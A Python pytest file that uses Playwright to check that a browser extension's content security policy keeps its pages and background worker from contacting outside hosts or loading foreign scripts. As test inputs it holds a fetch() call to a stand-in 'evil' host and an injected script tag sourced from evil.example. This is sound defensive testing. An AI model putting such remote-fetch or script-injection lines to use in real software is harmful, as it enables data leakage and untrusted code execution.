"""The extension can speak to this computer and to nobody else, because its own policy says so (threat 13)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Worker

from tests.extension.chromium import PAIR_PAGE, wait_for
from tests.extension.conftest import Paired
from tests.extension.inside import Inside
from tests.extension.packages import change_manifest, copied
from tests.extension.stand_in import EVIL, StandIn

pytestmark = [pytest.mark.slow, pytest.mark.browser]

TELLS = f"fetch('https://{EVIL}/open?told').then((answer) => answer.text(), () => 'refused')"


@pytest.fixture(scope="module")
def talkative(
    open_paired: Paired, paired: Inside, chrome_package: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Inside]:
    """The extension without a policy of its own."""
    folder = tmp_path_factory.mktemp("talkative")
    package = copied(chrome_package, folder / "package")
    change_manifest(package, lambda manifest: manifest.pop("content_security_policy"))
    with open_paired(folder / "open", desk=paired.desk, package=package) as inside:
        yield inside


def background(inside: Inside) -> Worker:
    """The extension's own background, awake."""
    page = inside.clio()
    found: Worker = wait_for(
        page,
        lambda: next(
            (w for w in inside.browser.context.service_workers if inside.browser.origin in w.url), None
        ),
    )
    page.close()
    return found


def test_neither_its_pages_nor_its_background_reach_another_computer(paired: Inside, site: StandIn) -> None:
    page = paired.browser.open(PAIR_PAGE)
    frame = paired.panel(paired.clio())
    site.asked.clear()
    assert [where.evaluate(TELLS) for where in (page, frame, background(paired))] == ["refused"] * 3
    assert [path for host, path in site.asked if host == EVIL] == []


def test_without_the_policy_they_would(talkative: Inside) -> None:
    page = talkative.browser.open(PAIR_PAGE)
    assert [where.evaluate(TELLS) for where in (page, background(talkative))] == ["open to all"] * 2


RUNS = """() => {
  const [own, far] = ["script", "script"].map((name) => document.createElement(name));
  own.textContent = "window.ran = true";
  far.src = "https://evil.example/open?script";
  document.body.append(own, far);
  return new Promise((done) => setTimeout(() => done(typeof window.ran), 200));
}"""


def test_no_page_of_it_runs_a_script_that_it_did_not_bring(paired: Inside, site: StandIn) -> None:
    site.asked.clear()
    page = paired.browser.open(PAIR_PAGE)
    assert page.evaluate(RUNS) == "undefined"
    assert [path for host, path in site.asked if host == EVIL] == []
